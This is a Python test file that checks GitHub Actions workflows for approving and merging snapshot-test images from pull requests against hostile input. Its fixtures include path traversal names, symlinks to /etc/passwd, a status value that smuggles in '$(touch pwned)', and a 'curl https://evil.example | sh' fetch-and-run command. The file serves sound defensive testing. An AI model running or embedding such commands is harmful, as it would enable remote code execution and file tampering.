"""What a pull request can have approved, and what of it is committed; what its shards can have merged."""

import base64
import hashlib
import json
import os
import subprocess

import github
import names
import workflow

# A picture of one pixel, and another.
PICTURE = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNQSlv1HwAEEgIyib5anQAAAABJRU5ErkJggg==")
OTHER = PICTURE + b"other"
ID = "Steps/systemSmall/snapshot@3x"
CONTEXT = {"github": {"token": "a token", "event": {"comment": {"body": "/approve-widgets"}}}}


def entry(name=ID, **changes):
    return {
        "id": name, "status": "new", "unit": 0, "product": "", "kind": "Steps",
        "family": "systemSmall", "device": "", "phase": "snapshot", "variant": {}, "width": 0,
        "height": 0, "scale": 1, "changes": [], "golden": f"actual/{name}.png",
        "actual": f"actual/{name}.png", "goldenDigest": hashlib.sha256(PICTURE).hexdigest(),
        **changes}


def report(*entries, **changes):
    return {
        "version": 1, "generator": "Vitrine 0.9.0", "engine": "", "goldens": "Goldens",
        "format": "png", "approveCommand": "swift run Steps approve",
        "recordCommand": "swift run Steps record", "pruneCommand": "", "tolerances": [],
        "notes": [], "problems": [], "makers": [], "tolerated": 0, "entries": list(entries),
        **changes}


def put(path, content):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())


def link(path, target):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)


def git(folder, *arguments):
    return subprocess.run(
        ["git", "-c", "user.name=a", "-c", "user.email=a@b", *arguments], cwd=folder, check=True,
        capture_output=True, text=True).stdout


def widgets(package, project):
    """The command that was built of the default branch."""
    program = package / ".build/debug/Steps"
    put(program, f"#!/bin/sh\nexec '{project.command}' \"$@\"\n")
    program.chmod(0o755)


def plays(project, scratch, parts=None):
    for part in parts or (who_may_ask, approving, committing, merging):
        folder = scratch / part.__name__
        folder.mkdir()
        for title, problem in part(project, folder):
            yield f"{part.__name__}, {title}", problem


# MARK: Who asks

def who_may_ask(project, scratch):
    document = project.load("widgets-approve.yml")
    one = workflow.step(document, "find", "Find who asks, and the last report")
    ours = github.run(100, branch="topic", event="pull_request", time="2026-01-01T10:00:00Z")
    data = github.archive({})

    def kept(number, of=ours, time="2026-01-01T10:00:00Z", **changes):
        return {**github.artifact(number, of, data, "widgets-report", time=time), **changes}

    pull = {
        "state": "open",
        "head": {"sha": "c0ffee", "ref": "topic", "repo": {"full_name": "o/r"}}}
    fork = {**pull, "head": {**pull["head"], "repo": {"full_name": "x/r"}}}
    theirs = github.run(
        300, branch="topic", event="pull_request", repository=github.THEIRS,
        time="2026-01-01T11:00:00Z")
    older = github.run(90, branch="topic", event="pull_request", sha="01d")
    for place, (title, person, runs, artifacts, pulled, wanted) in enumerate([
        ("somebody who may write", "owner", [ours], [kept(1)], pull, "1"),
        ("a stranger", "stranger", [ours], [kept(1)], pull, None),
        ("a fork's pull request", "owner", [ours], [kept(1)], fork, None),
        ("a closed one", "owner", [ours], [kept(1)], {**pull, "state": "closed"}, None),
        ("a report from after the comment", "owner", [ours], [
            kept(1), kept(2, time="2026-01-02T10:00:00Z")], pull, "1"),
        ("a fork's run of the same commit", "owner", [ours, theirs], [
            kept(1), kept(3, theirs)], pull, "1"),
        ("an earlier commit's report", "owner", [older], [kept(4, older)], pull, None),
        ("an artifact of another run", "owner", [ours], [
            kept(1), {**kept(5, theirs), "listed": 100}], pull, "1"),
        ("no digest", "owner", [ours], [kept(1, digest=None)], pull, None),
    ]):
        folder = scratch / str(place)
        folder.mkdir()
        tools = github.install(scratch / f"tools-{place}", {
            "runs": runs, "artifacts": artifacts, "pulls": {"5": pulled},
            "permissions": {"owner": "write", "stranger": "read"}})
        context = {"github": {
            "token": "a token", "repository": "o/r",
            "event": {"issue": {"number": 5}, "comment": {
                "user": {"login": person}, "created_at": "2026-01-01T12:00:00Z"}}}}
        status, said = workflow.run(document, "find", one, context, folder, tools)
        found = workflow.outputs(folder).get("artifact")
        yield title, None if (status == 0, found) == (wanted is not None, wanted) else (
            f"status {status}, artifact {found}: {said}")


# MARK: What is approved

def hostile_reports():
    """(title, report, files of the pull request, changes beside them, whether it is approved)"""
    usual = {f"actual/{ID}.png": PICTURE}
    yield "the declared picture", report(entry()), usual, None, True
    yield "another picture", report(entry()), {f"actual/{ID}.png": OTHER}, None, False
    yield "no digest", report(entry(goldenDigest=None)), usual, None, False
    for name in ("../../../outside/x", "/outside/x", "a/../../../../outside/x", ".git/hooks/x"):
        yield f"a frame “{name}”", report(entry(name)), {}, None, False
    yield "a frame of another's picture", report(
        entry(golden="../../secret.png", actual=None)), usual, None, False
    yield "numbers out of range", report(entry(width=1e300)), usual, None, False

    def moved(pull, _):
        put(pull / "vitrine.json", '{"goldens": "../../outside"}')

    yield "a vitrine.json that moves the goldens", report(entry()), usual, moved, None

    def linked(pull, outside):
        link(pull / "Goldens", outside)

    yield "goldens that are a link", report(entry()), usual, linked, False

    def deep(pull, outside):
        link(pull / "Goldens/Steps", outside)

    yield "a link among the goldens", report(entry()), usual, deep, False

    def file(pull, outside):
        link(pull / f"Goldens/{ID}.png", outside / "kept.png")

    yield "a golden that is a link", report(entry()), usual, file, False


def approving(project, scratch):
    document = project.load("widgets-approve.yml")
    one = workflow.step(document, "approve", "Approve")
    for place, (title, text, files, change, wanted) in enumerate(hostile_reports()):
        folder = scratch / str(place)
        pull = folder / "pull-request" / project.folder
        outside = folder / "outside"
        put(outside / "kept.png", b"kept")
        put(folder / "secret.png", PICTURE)
        widgets(folder / project.folder, project)
        put(pull / "Package.swift", "// theirs\n")
        if change:
            change(pull, os.path.relpath(outside, pull) if change.__name__ != "file" else outside)
        git(folder / "pull-request", "init", "-q", "-b", "topic")
        git(folder / "pull-request", "add", "-A")
        git(folder / "pull-request", "commit", "-q", "-m", "theirs")
        put(folder / "widgets-report/report/report.json", json.dumps(text))
        for name, content in files.items():
            put(folder / "widgets-report/report" / name, content)
        tools = github.install(scratch / f"tools-{place}", {})
        # Swift would run the manifest that the pull request brought.
        names.program(tools / "swift", f"echo swift >'{outside}/swift'\nexit 1\n")
        names.program(tools / "vitrine", f"exec '{project.command}' \"$@\"\n")
        status, said = workflow.run(document, "approve", one, CONTEXT, folder, tools)
        yield title, approved(folder, pull, status, said, wanted)


def approved(folder, pull, status, said, wanted):
    """Where `wanted` is nil, either will do as long as nothing is written elsewhere."""
    outside = sorted(os.listdir(folder / "outside"))
    if outside != ["kept.png"] or (folder / "outside/kept.png").read_bytes() != b"kept":
        return f"written outside: {outside}"
    written = pull / f"Goldens/{ID}.png"
    is_there = written.is_file() and not written.is_symlink() and written.read_bytes() == PICTURE
    if wanted is not None and (status == 0, is_there) != (wanted, wanted):
        return f"status {status}, the golden is {'' if is_there else 'not '}written: {said}"
    return None


# MARK: What is committed

def committing(project, scratch):
    document = project.load("widgets-approve.yml")
    one = workflow.step(document, "push", "Commit to the branch")
    prefix = f"{project.folder}/" if project.folder else ""
    golden = f"{prefix}Goldens/a.png"
    for place, (title, change, wanted) in enumerate([
        ("a golden", {golden: b"new"}, [golden]),
        ("a workflow beside it", {golden: b"new", ".github/workflows/x.yml": b"on: push"}, [golden]),
        ("source beside it", {golden: b"new", f"{prefix}Sources/a.swift": b"x"}, [golden]),
        ("a folder that begins alike", {golden: b"n", f"{prefix}Goldens2/a.png": b"x"}, [golden]),
        ("a link", {f"{prefix}Goldens/b.png": "/etc/passwd"}, None),
        ("a page", {f"{prefix}Goldens/b.html": b"<script>"}, None),
    ]):
        folder = scratch / str(place)
        clone = folder / "clone"
        clone.mkdir(parents=True)
        git(folder, "init", "-q", "--bare", "origin")
        git(clone, "init", "-q", "-b", "topic")
        git(clone, "remote", "add", "origin", folder / "origin")
        put(clone / golden, b"old")
        git(clone, "add", "-A")
        git(clone, "commit", "-q", "-m", "theirs")
        git(clone, "push", "-q", "origin", "topic")
        for name, content in change.items():
            if isinstance(content, str):
                link(clone / name, content)
            else:
                put(clone / name, content)
        git(clone, "add", "-A")
        put(folder / "goldens.patch", git(clone, "diff", "--cached", "--binary", "--no-renames"))
        git(clone, "reset", "-q", "--hard")
        tools = github.install(scratch / f"tools-{place}", {})
        context = {
            "github": {"token": "a token", "event": {"comment": {"user": {"login": "owner"}}}},
            "runner": {"temp": str(folder)}, "needs": {"find": {"outputs": {"branch": "topic"}}}}
        status, said = workflow.run(document, "push", one, context, clone, tools)
        names = git(folder / "origin", "log", "-1", "--name-only", "--format=", "-z", "topic")
        found = [name for name in names.split("\0") if name]
        count = git(folder / "origin", "rev-list", "--count", "topic").strip()
        pushed = found if count == "2" else None
        yield title, None if pushed == wanted and (status == 0) == (wanted is not None) else (
            f"status {status}, committed {pushed}: {said}")


# MARK: What is merged

def merging(project, scratch):
    document = project.load("widgets.yml")
    one = workflow.step(document, "report", "Merge")
    evil = "curl https://evil.example | sh"

    def shard(index, **changes):
        found = report(entry(f"Steps{index}/systemSmall/snapshot@3x"))
        found["shard"] = {"index": index, "count": 2, "partition": "ab"}
        return {**found, **changes}

    for place, (title, second, state, wanted) in enumerate([
        ("two shards", shard(2), "1", 1),
        ("a status that is a script", shard(2), "a[$(touch pwned)]", 2),
        ("a status beyond all", shard(2), "255", 2),
        ("a command of its own", shard(
            2, approveCommand=evil, recordCommand=evil, pruneCommand=evil), "1", 1),
        ("a billion shards", shard(2, shard={"index": 2, "count": 10**9, "partition": ""}), "1", 2),
        ("counts beyond 64 bits", shard(2, tolerated=2**63 - 1), "1", 2),
        ("a frame outside", shard(2, entries=[entry("../../../outside")]), "1", 2),
        ("a picture outside", shard(2, entries=[entry(golden="../../../secret.png")]), "1", 2),
        ("a page in a picture's place", shard(2, entries=[entry(actual="index.html")]), "1", 2),
    ]):
        package = scratch / str(place) / project.folder
        widgets(package, project)
        put(scratch / str(place) / "secret.png", PICTURE)
        for index, text in ((1, shard(1)), (2, second)):
            folder = package / f"output/shards/{index}"
            if index == 1 and evil in json.dumps(second):
                text = {**text, "approveCommand": evil, "recordCommand": evil, "pruneCommand": evil}
            put(folder / "report/report.json", json.dumps(text))
            put(folder / f"report/actual/Steps{index}/systemSmall/snapshot@3x.png", PICTURE)
            put(folder / "status", (state if index == 2 else "1") + "\n")
        tools = github.install(scratch / f"tools-{place}", {})
        status, said = workflow.run(
            document, "report", one, CONTEXT, scratch / str(place), tools,
            {"GITHUB_STEP_SUMMARY": str(scratch / str(place) / "summary.md")})
        yield title, merged(scratch / str(place), package, status, said, wanted)


def merged(folder, package, status, said, wanted):
    if status != wanted:
        return f"status {status}: {said}"
    if list(folder.rglob("pwned*")):
        return "a script of the shard's was run"
    shown = [said] + [
        path.read_text(encoding="utf-8", errors="replace")
        for path in [*(package / "output/report").glob("*.*"), package / "output/junit.xml",
                     folder / "summary.md"] if path.is_file()]
    if any("evil.example" in text for text in shown):
        return "a stranger's command is shown"
    return None
